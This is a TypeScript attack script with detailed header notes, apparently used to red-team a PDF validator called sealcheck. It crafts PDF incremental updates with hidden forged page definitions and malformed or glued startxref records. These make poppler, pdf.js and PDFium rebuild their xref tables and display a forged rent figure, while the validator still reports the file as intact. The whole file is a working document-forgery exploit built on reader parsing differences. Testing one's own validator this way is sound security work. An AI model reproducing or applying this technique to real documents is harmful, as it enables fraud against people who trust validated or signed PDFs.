// a23: a rebuild trigger for poppler and pdf.js together, and two headers the unlisted scan does not take.
// Trigger: after the last %%EOF, `startxref`, a comment line, the last section's offset, `%%EOF`. sealcheck's
// findLastStartxref reads the offset with its lexer (comments skipped): the same chain. poppler (XRef::getStartXref:
// isspace, then strToLongLong) reads 0 and reconstructs; pdf.js (startXRef: bytes 0x20-0x39 only) reads "% " -> NaN
// -> 0, fails, rebuilds (indexObjects). PDFium and qpdf skip the comment.
// Headers: one update (listed, honest to every table) with a stream A (referenced by nothing) whose data hold
//   - `x 4 0 obj << forged page 1 >> endobj` mid-line: pdf.js's indexObjects, after `A 0 obj`, restarts at the first
//     `\d+\s+\d+\s+obj` before `endobj` (gEndobjRegExp), anywhere in a line;
//   - a line of 255 filler bytes then `4 0 obj << forged page 1 >> endobj`: poppler's constructXRef reads lines with
//     Stream::getLine(buf, 256), so a long line is cut every 255 bytes and each piece is a "line start".
// The forged page's /Contents is a new listed stream B ("Husleje: 1 kr. pr. maaned").
// all: attack, and a22-S1 for PDFium: after the update, a revision F re-defining page 1 mid-line (`endobj 4 0 obj`, its
// table, `startxref F %%EOF`), and the trailing startxref glued: `xstartxref`, a comment, the update's offset. sealcheck
// and every substring search take the glued one (F is trailing bytes); PDFium takes only a whole word: F.
// plus: no trailing bytes at all; the update's own `startxref` offset written `+203081`: sealcheck's lexer, pdf.js
// (parseInt), PDFium and qpdf read the number; poppler's strToLongLong stops at the `+`: 0, and reconstructs.
// modes: trigger (the trailing startxref only, on the real archive), attack (both), update (the update alone: the
// control, TOTAL-PASSED, no reader rebuilds).
//   npx tsx scripts/attack-s18/startxref-comment.ts <trigger|attack|update|all|plus>   REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "attack";
if (!["trigger", "attack", "update", "all", "plus"].includes(mode)) throw new Error("usage: <trigger|attack|update|all|plus>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const alloc = new NumberAllocator(doc);
const [A, B, A2] = [alloc.take(), alloc.take(), alloc.take()];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number) => `${String(off).padStart(10, "0")} 00000 n \n`;
let last = doc.revisions.at(-1)!.startxref;
if (mode !== "trigger") {
  const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
  const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
  const def = `${P} 0 obj ${forgedPage} endobj`;
  // PAYLOAD=x (pdf.js's mid-line form only), y (poppler's 255-byte piece only), both (x then y in one stream), yx,
  const payload = process.env.PAYLOAD ?? "split";
  const xLine = `x ${def}\n`;
  const yLine = `${"y".repeat(255)}${def}\n`;
  // split (default): poppler's piece in stream A2, then pdf.js's line in stream A (the last definition wins in both)
  const inner = payload === "x" ? xLine : payload === "y" ? yLine : payload === "yx" ? yLine + xLine : payload === "both" ? xLine + yLine : xLine;
  let offA2 = 0;
  if (payload === "split") {
    offA2 = at;
    push(latin(`${A2} 0 obj\n<< /Length ${yLine.length} >>\nstream\n${yLine}endstream\nendobj\n`));
  }
  const offA = at;
  push(latin(`${A} 0 obj\n<< /Length ${inner.length} >>\nstream\n${inner}endstream\nendobj\n`));
  const offB = at;
  push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
  last = at;
  push(
    latin(
      `xref\n${A} ${payload === "split" ? 3 : 2}\n${entry(offA)}${entry(offB)}${payload === "split" ? entry(offA2) : ""}trailer\n<< /Size ${payload === "split" ? A2 + 1 : B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${mode === "plus" ? "+" : ""}${last}\n%%EOF\n`,
    ),
  );
}
let glue = "";
if (mode === "all") {
  const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
  push(latin("endobj "));
  const offF = at;
  push(latin(`${P} 0 obj ${forgedPage} endobj\n`));
  const xF = at;
  push(latin(`xref\n${P} 1\n${entry(offF)}trailer\n<< /Size ${A2 + 1} ${carried.join(" ")} /Prev ${last} >>\nstartxref\n${xF}\n%%EOF\n`));
  glue = "x";
}
if (mode !== "update" && mode !== "plus") push(latin(`${glue}startxref\n% the offset follows\n${last}\n%%EOF\n`));
const file = save(work(`s18-startxref-comment-${mode}${process.env.PAYLOAD ? `-${process.env.PAYLOAD}` : ""}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`startxref-comment ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
console.log(`== pdftotext stderr: ${JSON.stringify(tool("pdftotext", ["-l", "1", file, "/dev/null"]).slice(0, 200))}`);
